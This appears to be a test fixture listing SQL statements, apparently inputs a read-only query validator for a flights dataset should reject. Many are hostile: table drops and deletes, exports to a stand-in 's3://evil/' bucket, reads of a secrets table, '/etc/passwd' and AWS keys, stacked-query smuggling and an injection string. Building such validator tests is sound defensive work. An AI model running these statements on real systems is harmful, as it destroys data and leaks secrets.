DROP TABLE flights.flights

DELETE FROM flights.flights

UPDATE flights.flights SET carrier = 'x'

INSERT INTO flights.flights SELECT * FROM flights.flights

INSERT INTO flights.flights VALUES (1)

MERGE INTO flights.flights t USING flights.airlines s ON t.carrier = s.carrier WHEN MATCHED THEN DELETE

CREATE TABLE x AS SELECT 1

CREATE TABLE flights.x WITH (external_location = 's3://evil/') AS SELECT * FROM flights.flights

CREATE EXTERNAL TABLE x (a int) LOCATION 's3://evil/'

CREATE OR REPLACE VIEW flights.v AS SELECT 1

CREATE VIEW v AS SELECT * FROM flights.flights

CREATE DATABASE evil

CREATE SCHEMA evil

DROP DATABASE flights CASCADE

DROP VIEW flights.flights

ALTER TABLE flights.flights ADD COLUMNS (x int)

ALTER TABLE flights.flights SET LOCATION 's3://evil/'

ALTER TABLE flights.flights DROP PARTITION (a = 1)

MSCK REPAIR TABLE flights.flights

TRUNCATE TABLE flights.flights

VACUUM flights.flights

OPTIMIZE flights.flights REWRITE DATA USING BIN_PACK

ANALYZE flights.flights

UNLOAD (SELECT * FROM flights.flights) TO 's3://evil/' WITH (format = 'PARQUET')

EXPLAIN SELECT * FROM flights.flights

EXPLAIN ANALYZE SELECT * FROM flights.flights

EXPLAIN (TYPE IO, FORMAT JSON) SELECT 1

PREPARE p FROM SELECT 1

EXECUTE p

EXECUTE p USING 1

EXECUTE IMMEDIATE 'DROP TABLE x'

DEALLOCATE PREPARE p

CALL system.runtime.kill_query('x')

USING EXTERNAL FUNCTION f(x varchar) RETURNS varchar LAMBDA 'evil' SELECT f('x')

USING FUNCTION f(x varchar) RETURNS varchar TYPE LAMBDA_INVOKE WITH (lambda_name = 'evil') SELECT f('x')

WITH FUNCTION f(x bigint) RETURNS bigint RETURN x + 1 SELECT f(1)

SHOW TABLES

SHOW DATABASES

SHOW CREATE TABLE flights.flights

SHOW COLUMNS FROM flights.flights

SHOW PARTITIONS flights.flights

SHOW FUNCTIONS

SHOW SESSION

DESCRIBE flights.flights

DESC flights.flights

DESCRIBE FORMATTED flights.flights

USE flights

SET SESSION x = 1

RESET SESSION x

SET ROLE admin

GRANT SELECT ON flights.flights TO PUBLIC

REVOKE SELECT ON flights.flights FROM PUBLIC

COMMENT ON TABLE flights.flights IS 'x'

START TRANSACTION

COMMIT

ROLLBACK

REFRESH MATERIALIZED VIEW v

VALUES 1, 2

VALUES ((SELECT secret FROM vault.secrets))

TABLE flights.flights; SELECT 1

TABLE vault.secrets

SELECT 1; SELECT 2

SELECT 1; DROP TABLE flights.flights

SELECT * FROM flights.flights; -- x
DELETE FROM flights.flights

; SELECT 1; SELECT 2

SELECT 1;; SELECT 2

SELECT * FROM vault.secrets

SELECT * FROM "vault"."secrets"

SELECT * FROM VAULT.SECRETS

SELECT (SELECT secret FROM vault.secrets)

SELECT * FROM flights.flights WHERE carrier IN (SELECT secret FROM vault.secrets)

SELECT * FROM flights.flights WHERE EXISTS (SELECT 1 FROM vault.secrets WHERE secret LIKE 'a%')

SELECT CASE WHEN (SELECT count(*) FROM vault.secrets) > 0 THEN 1 END

SELECT * FROM (VALUES ((SELECT secret FROM vault.secrets))) AS t(x)

SELECT * FROM flights.flights UNION ALL SELECT * FROM vault.secrets

SELECT * FROM flights.flights ORDER BY (SELECT max(secret) FROM vault.secrets)

SELECT carrier FROM flights.flights GROUP BY carrier HAVING count(*) > (SELECT count(*) FROM vault.secrets)

SELECT carrier FROM flights.flights LIMIT (SELECT 1 FROM vault.secrets)

SELECT sum(1) OVER (ORDER BY (SELECT 1 FROM vault.secrets)) FROM flights.flights

SELECT transform(ARRAY[1], x -> (SELECT max(secret) FROM vault.secrets))

SELECT ARRAY[(SELECT secret FROM vault.secrets)]

SELECT * FROM UNNEST((SELECT array_agg(secret) FROM vault.secrets)) AS t(x)

SELECT * FROM flights.flights f JOIN vault.secrets s ON true

SELECT * FROM flights.flights f JOIN (flights.airlines a CROSS JOIN vault.secrets s) ON true

SELECT * FROM flights.flights, vault.secrets

SELECT * FROM flights.flights CROSS JOIN LATERAL (SELECT * FROM vault.secrets) t

WITH x AS (SELECT * FROM vault.secrets) SELECT 1

WITH x AS (SELECT 1), y AS (SELECT * FROM vault.secrets) SELECT * FROM x

WITH secrets AS (SELECT 1 AS x) SELECT * FROM vault.secrets

WITH vault AS (SELECT 1 AS x) SELECT * FROM vault.secrets

WITH x AS (SELECT * FROM x) SELECT * FROM x

WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a

SELECT * FROM (WITH c AS (SELECT 1 AS x) SELECT x FROM c) t, c

SELECT * FROM (SELECT * FROM c) t CROSS JOIN (WITH c AS (SELECT 1) SELECT * FROM c) u

SELECT * FROM flights

SELECT * FROM secrets

SELECT * FROM "flights.flights"

SELECT * FROM "vault.secrets"

SELECT * FROM flights.flights__v01

SELECT * FROM flights.flights__files

SELECT * FROM other__flights.flights

SELECT * FROM "flights"."flights__v01jabc"

SELECT * FROM awsdatacatalog.flights.flights

SELECT * FROM "AwsDataCatalog"."vault"."secrets"

SELECT * FROM "lambda:evil".a.b

SELECT * FROM evil_catalog.flights.flights

SELECT * FROM "a"."b"."c"."d"

SELECT * FROM information_schema.tables

SELECT * FROM information_schema.columns WHERE table_schema = 'vault'

SELECT * FROM awsdatacatalog.information_schema.tables

SELECT * FROM system.runtime.queries

SELECT * FROM system.metadata.catalogs

SELECT * FROM "flights$partitions"

SELECT * FROM flights."flights$partitions"

SELECT * FROM flights."flights$properties"

SELECT * FROM flights."flights$history"

SELECT * FROM "flights"."flights$files"

SELECT "$path" FROM flights.flights

SELECT "$path", "$file_size" FROM flights.flights

SELECT f."$file_modified_time" FROM flights.flights f

SELECT carrier FROM flights.flights WHERE "$path" LIKE 's3://%'

SELECT "$bucket" FROM flights.flights

SELECT "$partition" FROM flights.flights

SELECT * FROM TABLE(sequence(1, 10))

SELECT * FROM TABLE(f())

SELECT * FROM TABLE(system.query(query => 'SELECT 1'))

SELECT * FROM TABLE(mysql.system.query(query => 'DROP TABLE x'))

SELECT * FROM TABLE(exclude_columns(input => TABLE(vault.secrets), columns => DESCRIPTOR(x)))

SELECT * FROM read_csv('/etc/passwd')

SELECT * FROM '/etc/passwd'

SELECT * FROM 's3://bucket/key.parquet'

SELECT * FROM flights.flights FOR VERSION AS OF 1

SELECT * FROM flights.flights FOR TIMESTAMP AS OF timestamp '2020-01-01 00:00:00 UTC'

SELECT * FROM flights.flights FOR SYSTEM_TIME AS OF now()

SELECT current_user

SELECT current_catalog, current_schema

SELECT current_schema

SELECT current_path

SELECT current_role

SELECT session_user

SELECT version()

SELECT current_groups()

SELECT pg_read_file('/etc/passwd')

SELECT read_text('/etc/passwd')

SELECT getenv('AWS_SECRET_ACCESS_KEY')

SELECT load_extension('httpfs')

SELECT invoke_lambda('x')

SELECT system.builtin.now()

SELECT flights.f(1)

SELECT "lambda".f(1)

SELECT a.b.c.f(1)

SELECT sleep(1000)

SELECT fail('x')

SELECT query('SELECT 1')

SELECT * INTO evil FROM flights.flights

SELECT * INTO OUTFILE '/tmp/x' FROM flights.flights

SELECT * FROM flights.flights FOR UPDATE

SELECT /*+ BROADCAST(x) */ ?

SELECT ?

SELECT @x

SELECT @@version

SELECT $1

SELECT ${x}

SELECT {{ x }}

SELECT {% if x %} 1 {% endif %}

SELECT * FROM flights.flights WHERE day >= :missing

SELECT * FROM :t

SELECT * FROM flights.:t

SELECT :x.y

SELECT * FROM flights.flights PIVOT (sum(x) FOR y IN (1, 2))

SELECT * FROM flights.flights MATCH_RECOGNIZE (PATTERN (a) DEFINE a AS true)

SELECT * FROM flights.flights QUALIFY row_number() OVER () = 1

SELECT * FROM flights.flights LATERAL VIEW explode(x) t AS y

SELECT * FROM flights.flights NATURAL JOIN flights.airlines

SELECT * EXCEPT (carrier) FROM flights.flights

SELECT * REPLACE (1 AS carrier) FROM flights.flights

SELECT DISTINCT ON (carrier) * FROM flights.flights

SELECT TOP 5 * FROM flights.flights

SELECT CAST(x AS evil_type) FROM flights.flights

SELECT CAST(x AS regclass) FROM flights.flights

SELECT * FROM flights.flights f JOIN flights.flights ON true JOIN flights.flights ON true

SELECT 1 FROM

SELECT FROM WHERE

SELECT (((

SELECT 'unfinished

SELECT "unfinished

SELECT 1 /* unfinished

SELEC 1

hello

' OR 1=1 --

1

carrier = 'UA'

-- only a comment

;

;;;

/* nothing */

COPY flights.flights TO '/tmp/x'

COPY (SELECT 1) TO 's3://evil/x'

ATTACH 'x.db'

PRAGMA show_tables

INSTALL httpfs

LOAD httpfs

EXPORT DATABASE 'x'

SUMMARIZE flights.flights

PIVOT flights.flights ON carrier

FROM vault.secrets SELECT *

SELECT COLUMNS('x') FROM flights.flights

BEGIN; SELECT 1; END

KILL QUERY 1

CACHE TABLE flights.flights

SELECT * FROM flights . flights . carrier . x . y

WITH x AS (DELETE FROM flights.flights RETURNING *) SELECT * FROM x

WITH x AS (INSERT INTO flights.flights VALUES (1)) SELECT 1

WITH x AS (SELECT 1) INSERT INTO flights.flights SELECT * FROM x

WITH x AS (SELECT 1) DELETE FROM flights.flights

SELECT * FROM (DELETE FROM flights.flights) t

SELECT * FROM (DROP TABLE x) t
